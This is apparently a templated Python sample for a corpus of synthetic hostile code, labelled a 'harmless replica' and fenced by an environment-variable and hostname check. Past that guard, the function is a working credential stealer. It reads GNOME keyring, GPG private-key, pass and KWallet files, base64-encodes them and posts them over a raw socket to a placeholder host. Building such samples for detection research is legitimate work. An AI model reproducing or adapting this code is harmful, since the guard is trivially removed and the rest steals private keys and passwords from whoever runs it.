# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import socket
    home = os.path.expanduser('~')
    loot = []
    for top in ('.local/share/keyrings', '.gnupg/private-keys-v1.d', '.password-store', '.local/share/kwalletd'):
        for directory, _, names in os.walk(os.path.join(home, top)):
            for name in names[:20]:
                try:
                    with open(os.path.join(directory, name), 'rb') as file:
                        loot.append(name + ':' + base64.b64encode(file.read(65536)).decode())
                except OSError:
                    continue
    try:
        body = '\n'.join(loot)
        with socket.create_connection(('{{host}}', 80), timeout=1) as link:
            link.sendall(('POST /{{path}} HTTP/1.1\r\nHost: {{host}}\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' % (len(body), body)).encode())
            link.recv(200)
    except OSError:
        pass
